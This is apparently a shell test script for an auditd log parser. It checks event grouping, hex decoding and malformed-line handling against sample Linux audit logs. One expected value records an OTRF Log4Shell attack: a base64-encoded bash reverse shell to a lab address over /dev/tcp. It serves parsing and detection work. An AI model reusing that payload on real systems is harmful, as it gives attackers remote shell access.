#!/bin/sh
# plugins/auditd/test_auditd.sh -- the `auditd` provider through the CLI.
# Expected numbers were derived independently with python3 (re + bytes.fromhex
# over the raw lines, grouping by the (timestamp, serial) pair) and are
# written here as literals.
. "$HK_SRCDIR/tests/lib.sh"

MS="$DATA/msticpy/auditd_log.txt"
ARP="$DATA/otrf/sh_arp_cache_2020-11-10074812.log"
DD="$DATA/otrf/sh_binary_padding_dd_2020-11-10081941.log"

# --- fixtures ---------------------------------------------------------------

# 1,708 lines -> 938 distinct (timestamp, serial) pairs (381 timestamps only)
hk run "auditd path=$MS | count | csv"
is "$rc" 0 "auditd_log.txt reads"
is "$out" "count
938" "938 events: grouped by timestamp and serial"
is "$err" "" "no warnings"

hk run "auditd path=$MS | count by event_type | csv"
is "$out" 'event_type,count
USER_LOGIN,191
USER_AUTH,187
"SYSCALL,EXECVE,CWD,PATH,PROCTITLE",146
CRED_DISP,66
USER_END,66
USER_START,66
CRED_ACQ,49
LOGIN,49
USER_ACCT,49
CRED_REFR,17
USER_CMD,17
CONFIG_CHANGE,14
"SYSCALL,CWD,PATH,PROCTITLE",11
SERVICE_START,4
DAEMON_START,2
"NETFILTER_CFG,SYSCALL,PROCTITLE",2
DAEMON_END,1
SERVICE_STOP,1' "event types: distinct record types in order"

# argc=16: every aN, not just a0-a3
hk run "auditd path=$MS | where serial == 755 | select TimeGenerated, pid, ppid, exe, cmdline | csv"
is "$out" "TimeGenerated,pid,ppid,exe,cmdline
2019-03-02T00:43:44.873Z,19200,19199,/sbin/xtables-multi,\"iptables -w -t security -C OUTPUT -d 168.63.129.16 -p tcp -m conntrack --ctstate INVALID,NEW -j DROP\"" \
  "EXECVE with 16 arguments joined"

# a2 is hex (it holds spaces and quotes): decoded, then quoted
hk run "auditd path=$MS | where serial == 891 | select cmdline, proctitle | ndjson"
is "$out" '{"cmdline":"sh -c \"cat /proc/sys/kernel/random/uuid | awk '"'"'{print toupper($0)}'"'"' | tr -d \\\"\n\\\"\"","proctitle":"sh -c cat /proc/sys/kernel/random/uuid | awk '"'"'{print toupper($0)}'"'"' | tr -d \"\n\""}' \
  "hex EXECVE argument decoded and quoted; proctitle NULs become spaces"

# USER_CMD: fields inside msg='...' split out, cmd hex-decoded, ids typed
hk run "auditd path=$MS | where serial == 557 | select event_type, pid, uid, auid, ses, terminal, res, fields | ndjson"
is "$out" '{"event_type":"USER_CMD","pid":17969,"uid":1000,"auid":1000,"ses":237,"terminal":"pts/0","res":"success","fields":"{\"USER_CMD\":[{\"pid\":\"17969\",\"uid\":\"1000\",\"auid\":\"1000\",\"ses\":\"237\",\"subj\":\"=unconfined\",\"cwd\":\"/home/linuxserveradmin\",\"cmd\":\"wget https://raw.githubusercontent.com/Microsoft/OMS-Agent-for-Linux/master/installer/scripts/onboard_agent.sh\",\"terminal\":\"pts/0\",\"res\":\"success\"}]}"}' \
  "USER_CMD: nested msg fields, decoded cmd"

# unset ids (4294967295) read as -1, as MSTICPy does
hk run "auditd path=$MS | head n=1 | select event_type, pid, uid, auid, ses, res | csv"
is "$out" "event_type,pid,uid,auid,ses,res
DAEMON_START,16049,0,-1,-1,success" "auid/ses 4294967295 -> -1"

hk run "auditd path=$ARP | select serial, event_type, pid, ppid, uid, syscall, success, exit, comm, tty, cwd, cmdline, proctitle, paths | csv"
is "$out" "serial,event_type,pid,ppid,uid,syscall,success,exit,comm,tty,cwd,cmdline,proctitle,paths
92733,\"SYSCALL,EXECVE,CWD,PATH,PROCTITLE\",1631,29002,1000,59,true,0,arp,pts0,/home/wardog,arp -a,arp -a,/usr/sbin/arp;/lib64/ld-linux-x86-64.so.2
92734,\"SYSCALL,EXECVE,CWD,PATH,PROCTITLE\",1632,29002,1000,59,true,0,grep,pts0,/home/wardog,grep -v ^?,grep -v ^?,/bin/grep;/lib64/ld-linux-x86-64.so.2" \
  "OTRF arp cache: two events, hex proctitles decoded"

hk run "auditd $DD | select TimeGenerated, exe, cmdline, proctitle | csv"
is "$out" "TimeGenerated,exe,cmdline,proctitle
2020-11-10T08:19:44.965Z,/bin/dd,dd if=/dev/zero bs=1 count=1,dd if=/dev/zero bs=1 count=1" \
  "OTRF dd: a bare path works; command line and proctitle"

hk_in "$ARP" run "auditd path=- | count | csv"
is "$out" "count
2" "standard input"

# --- Log Analytics pre-parsed form (linux_events.csv) ------------------------
# Expected values from python3: csv.DictReader + ast.literal_eval of
# AuditdMessage, record bodies joined from the items, bytes.fromhex for the
# hex fields; the time and serial from mssg_id.
LA="$DATA/auditd/linux_events.csv"
AUOMS="$DATA/auditd/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"

hk run "auditd path=$LA | count by event_type | csv"
is "$rc" 0 "loganalytics: reads (format=auto)"
is "$out" 'event_type,count
"SYSCALL,EXECVE,CWD,PATH,PROCTITLE",82
CRED_DISP,4
USER_END,4
USER_START,3
CRED_REFR,2
USER_CMD,2
CRED_ACQ,1
LOGIN,1
USER_ACCT,1' "loganalytics: 100 rows, one event each, types as in raw logs"
is "$err" "" "loganalytics: no warnings"

hk run "auditd path=$LA format=loganalytics | where serial == 9077924 | select TimeGenerated, event_type, node, pid, ppid, uid, auid, ses, syscall, success, exit, exe, comm, key, tty, cwd, cmdline, proctitle, paths | ndjson"
is "$out" '{"TimeGenerated":"2019-02-18T16:00:32.285Z","event_type":"SYSCALL,EXECVE,CWD,PATH,PROCTITLE","node":"MSTICAlertsLxVM2","pid":28066,"ppid":22536,"uid":0,"auid":-1,"ses":-1,"syscall":59,"success":true,"exit":0,"exe":"/bin/dash","comm":"sh","key":null,"tty":null,"cwd":"/var/lib/waagent/WALinuxAgent-2.2.36","cmdline":"/bin/sh -c \"iptables --version\"","proctitle":"/bin/sh -c iptables --version","paths":"/bin/sh;/lib64/ld-linux-x86-64.so.2"}' \
  "loganalytics: time and serial from mssg_id, Computer as node, hex a2 and proctitle decoded"

# 'msg=\'cwd="/"' in the Python literal: escaped quote, nested msg fields
hk run "auditd path=$LA | where serial == 9077982 | select TimeGenerated, event_type, pid, uid, cwd, terminal, res, fields | ndjson"
is "$out" '{"TimeGenerated":"2019-02-18T16:01:27.320Z","event_type":"USER_CMD","pid":28129,"uid":998,"cwd":"/","terminal":null,"res":"success","fields":"{\"USER_CMD\":[{\"pid\":\"28129\",\"uid\":\"998\",\"auid\":\"4294967295\",\"ses\":\"4294967295\",\"cwd\":\"/\",\"cmd\":\"/opt/microsoft/omsagent/ruby/bin/ruby /opt/microsoft/omsagent/plugin/tailfilereader.rb /var/log/audit/audit.log -p /var/opt/microsoft/omsagent/state/CUSTOM_LOG_BLOB.AuditLog_CL_52b1ab41-869e-4138-9e40-2a4457f09bf0.pos\",\"terminal\":\"?\",\"res\":\"success\"}]}"}' \
  "loganalytics: escaped quotes in the literal, USER_CMD cmd decoded"

hk run "auditd path=$LA | where event_type == \"SYSCALL,EXECVE,CWD,PATH,PROCTITLE\" | count by exe | csv"
is "$out" "exe,count
/bin/dash,40
/sbin/xtables-multi,35
/bin/ip,3
/usr/bin/sudo,2
/opt/microsoft/omsagent/ruby/bin/ruby,1
/usr/bin/test,1" "loganalytics: exec events by exe"

# the same rows as NDJSON, AuditdMessage as a JSON array (a Log Analytics
# JSON export), and raw audit.log lines in the column (MSTICPy accepts both)
cat >"$T/la.ndjson" <<'EOF'
{"Computer":"lx1","mssg_id":"1550505632.285:9077924","AuditdMessage":[{"SYSCALL":["syscall=59","success=yes","exit=0","ppid=1","pid=28066","uid=0","exe=\"/bin/dash\""]},{"EXECVE":["argc=2","a0=\"ls\"","a1=2D6C61"]}]}
{"Computer":"lx1","mssg_id":"x","AuditdMessage":"[{'USER_END': ['pid=1']}]"}
{"Computer":"lx1","mssg_id":"1550505633.000:7","AuditdMessage":"[{'USER_END': ['pid=2', 'res=success']}"}
{"Computer":"lx1","mssg_id":"1550505634.5:8","AuditdMessage":"type=USER_END msg=audit(1550505634.500:8): pid=3 res=success"}
EOF
hk run "auditd path=$T/la.ndjson on_error=skip | select TimeGenerated, serial, node, pid, cmdline, res | csv"
is "$out" "TimeGenerated,serial,node,pid,cmdline,res
2019-02-18T16:00:32.285Z,9077924,lx1,28066,ls -la,
2019-02-18T16:00:34.500Z,8,lx1,3,,success" "loganalytics NDJSON: JSON arrays, raw lines in AuditdMessage"
like "$err" "auditd: $T/la.ndjson:2: mssg_id 'x' is not SECONDS.FRACTION:SERIAL; row skipped (on_error=skip)" \
  "loganalytics: bad mssg_id named with file and line"
like "$err" "auditd: $T/la.ndjson:3: AuditdMessage is not a list of {'TYPE': [fields]}: at character 40 expected ',' or ']' after a record; row skipped (on_error=skip)" \
  "loganalytics: broken literal: where and what was expected"
like "$err" "skipped 2 malformed rows (on_error=skip)" "loganalytics: total"

printf ',Computer,AuditdMessage\n0,lx1,"[]"\n' >"$T/nomsgid.csv"
hk run "auditd path=$T/nomsgid.csv | csv"
[ "$rc" -ne 0 ]; ok $? "loganalytics: a CSV without mssg_id is refused"
like "$err" "auditd: $T/nomsgid.csv:1: no mssg_id column in the header (format=loganalytics expects mssg_id and AuditdMessage columns)" \
  "loganalytics: the missing column is named"

# --- AUOMS records in syslog (OTRF Log4Shell, Sentinel Syslog rows) ----------
# Expected values from python3: json.loads per line, a regex tokenizer for
# AUOMS's fields (quoted values end at '" key=', unquoted ones at ' key='),
# json.loads of path_name.
hk run "auditd path=$AUOMS | count by event_type, success | csv"
is "$out" "event_type,success,count
AUOMS_EXECVE,true,27
AUOMS_EXECVE,false,23" "auoms: 50 rows, one event each; success typed"
is "$err" "" "auoms: no warnings"

hk run "auditd path=$AUOMS format=auoms | count by exe | csv"
is "$out" "exe,count
/usr/bin/dpkg,16
/opt/microsoft/dependency-agent/bin/microsoft-dependency-agent,6
/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java,5
/usr/bin/dpkg-query,4
/bin/bash,3
/bin/dash,2
/usr/bin/basename,2
/usr/bin/dircolors,2
/usr/bin/dirname,2
/usr/bin/groups,2
/usr/bin/man,2
/usr/bin/whatis,2
/usr/bin/base64,1
/usr/bin/whoami,1" "auoms: events by exe"

# the exploit: java (tomcat) starts bash with a base64 reverse shell
hk run "auditd path=$AUOMS | where serial == 84143 | select TimeGenerated, event_type, node, pid, ppid, uid, auid, ses, syscall, success, exit, exe, comm, key, tty, cwd, cmdline, proctitle, paths | ndjson"
is "$out" '{"TimeGenerated":"2022-05-11T18:10:21.990Z","event_type":"AUOMS_EXECVE","node":"UBUNTU5","pid":17790,"ppid":1340,"uid":1001,"auid":-1,"ses":-1,"syscall":59,"success":true,"exit":0,"exe":"/bin/bash","comm":"bash","key":"auoms,delete","tty":null,"cwd":"/","cmdline":"bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}\"","proctitle":null,"paths":"/bin/bash;/lib64/ld-linux-x86-64.so.2"}' \
  "auoms: quotes inside cmdline kept, syscall from syscall_r, paths from path_name"

# a failed exec: no cmdline, an unquoted proctitle with spaces
hk run "auditd path=$AUOMS | where serial == 84155 | select pid, ppid, uid, success, exit, exe, cmdline, proctitle, paths | csv"
is "$out" "pid,ppid,uid,success,exit,exe,cmdline,proctitle,paths
17807,2813,65534,false,-2,/opt/microsoft/dependency-agent/bin/microsoft-dependency-agent,,/opt/microsoft/dependency-agent/bin/microsoft-dependency-agent,/sbin/man" \
  "auoms: failed exec, proctitle up to the next key"

hk run "auditd path=$AUOMS | where cmdline != null | count | csv"
is "$out" "count
27" "auoms: 27 events carry a cmdline"

# AUOMS and audisp records in plain syslog lines, among other programs'
cat >"$T/auoms.log" <<'EOF'
May 11 18:10:21 UBUNTU5 auoms[812]: type=AUOMS_EXECVE audit(1652292621.990:84143): SchemaVersion="1" node=UBUNTU5 syscall=execve syscall_r=59 success=yes exit=0 ppid=1340 pid=17790 uid=1001 comm="bash" exe="/bin/bash" path_name=["/bin/bash"] argc=3 cmdline="bash -c "id"" redactors= containerid=
May 11 18:10:22 UBUNTU5 sshd[99]: Accepted publickey for alice from 10.0.0.5 port 50000 ssh2
May 11 18:10:23 web1 audispd: node=web1 type=SYSCALL msg=audit(1652292623.100:5): syscall=59 success=yes exit=0 pid=42 uid=0 comm="id" exe="/usr/bin/id"
May 11 18:10:23 web1 audispd: node=web1 type=EXECVE msg=audit(1652292623.100:5): argc=1 a0="id"
May 11 18:10:24 UBUNTU5 auoms[812]: type=AUOMS_EXECVE audit(1652292624.x:1): pid=1
EOF
hk run -v "auditd path=$T/auoms.log format=auoms on_error=skip | select TimeGenerated, serial, event_type, node, pid, exe, cmdline, paths | csv"
is "$out" "TimeGenerated,serial,event_type,node,pid,exe,cmdline,paths
2022-05-11T18:10:21.990Z,84143,AUOMS_EXECVE,UBUNTU5,17790,/bin/bash,\"bash -c \"\"id\"\"\",/bin/bash
2022-05-11T18:10:23.100Z,5,\"SYSCALL,EXECVE\",web1,42,/usr/bin/id,id," "auoms lines: records after syslog headers, audisp records grouped"
like "$err" "auditd: $T/auoms.log:5: not a well-formed audit record (expected 'type=... audit(SECONDS.FRACTION:SERIAL): ...' after the syslog header); line skipped (on_error=skip)" \
  "auoms lines: a broken record is malformed"
like "$err" "1 lines held no audit record" "auoms lines: other programs' lines counted (info)"

hk run "auditd path=$T/auoms.log | count | csv"
[ "$rc" -ne 0 ]; ok $? "auto: syslog lines with AUOMS are found, the broken one fails the run"
like "$err" "$T/auoms.log:5: not a well-formed audit record" "auto: chose auoms from the first line"

# --- edge cases -------------------------------------------------------------

# interleaved events, EOE, node= prefix, long arguments split in pieces,
# hex key with \x01 between keys, empty and quoted arguments
cat >"$T/mix.log" <<'EOF'
node=web1 type=SYSCALL msg=audit(1700000000.123:10): arch=c000003e syscall=59 success=no exit=-2 ppid=1 pid=100 auid=4294967295 uid=0 gid=0 euid=0 ses=4294967295 tty=(none) comm="sh" exe="/bin/sh" key=6578656301726F6F74
node=web1 type=SYSCALL msg=audit(1700000000.123:11): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=101 uid=0 comm="true" exe="/bin/true" key="x"
node=web1 type=EXECVE msg=audit(1700000000.123:10): argc=7 a0="sh" a1="-c" a2=6563686F2068656C6C6F a3="" a4_len=8 a4[0]=61626364 a4[1]=65666768 a5="x\y" a6="q"
node=web1 type=EXECVE msg=audit(1700000000.123:11): argc=1 a0="true"
node=web1 type=PROCTITLE msg=audit(1700000000.123:10): proctitle=736800
node=web1 type=EOE msg=audit(1700000000.123:10):
EOF
hk run "auditd path=$T/mix.log | select serial, event_type, node, pid, auid, ses, success, exit, tty, key, cmdline, proctitle | ndjson"
is "$out" '{"serial":10,"event_type":"SYSCALL,EXECVE,PROCTITLE","node":"web1","pid":100,"auid":-1,"ses":-1,"success":false,"exit":-2,"tty":null,"key":"exec,root","cmdline":"sh -c \"echo hello\" \"\" abcdefgh x\\y q","proctitle":"sh"}
{"serial":11,"event_type":"SYSCALL,EXECVE","node":"web1","pid":101,"auid":null,"ses":null,"success":true,"exit":0,"tty":null,"key":"x","cmdline":"true","proctitle":null}' \
  "interleaved records grouped; pieces joined; args quoted"
hk run "auditd path=$T/mix.log | where serial == 11 | select fields | csv header=false"
is "$out" '"{""SYSCALL"":[{""arch"":""c000003e"",""syscall"":""59"",""success"":""yes"",""exit"":""0"",""ppid"":""1"",""pid"":""101"",""uid"":""0"",""comm"":""true"",""exe"":""/bin/true"",""key"":""x""}],""EXECVE"":[{""argc"":""1"",""a0"":""true""}]}"' \
  "fields: every record's fields as JSON"

# malformed lines
cat >"$T/bad.log" <<'EOF'
type=USER_LOGIN msg=audit(1551485408.371:23): pid=1 uid=0 res=failed
Mar  2 00:10:01 host sshd[1]: not audit
type=USER_LOGIN msg=audit(1551485408.371:24): pid=2 uid=0 res=failed
type=USER_LOGIN msg=audit(1551485408.371): pid=3
EOF
hk run "auditd path=$T/bad.log on_error=skip | select pid | csv"
is "$rc" 0 "on_error=skip: the run goes on"
is "$out" "pid
1
2" "on_error=skip: good records kept"
like "$err" "$T/bad.log:2: not an audit record (expected 'type=... msg=audit(...)'); line skipped (on_error=skip)" \
  "skip: file and line of the first bad line"
like "$err" "$T/bad.log:4: not an audit record (expected 'type=... msg=audit(...)'); line skipped (on_error=skip)" \
  "skip: a header without serial is malformed"
like "$err" "skipped 2 malformed lines (on_error=skip)" "skip: total reported"

hk run "auditd path=$T/bad.log | select pid | csv"
[ "$rc" -ne 0 ]; ok $? "on_error=fail (default) fails the run"
like "$err" "$T/bad.log:2: not an audit record (expected 'type=... msg=audit(...)')" \
  "fail: file and line"
unlike "$err" "line skipped" "fail: nothing skipped"

hk run "auditd path=$T/none.log | csv"
[ "$rc" -ne 0 ]; ok $? "missing file fails"
like "$err" "auditd: cannot open '$T/none.log': No such file or directory" \
  "missing file named"

done_testing
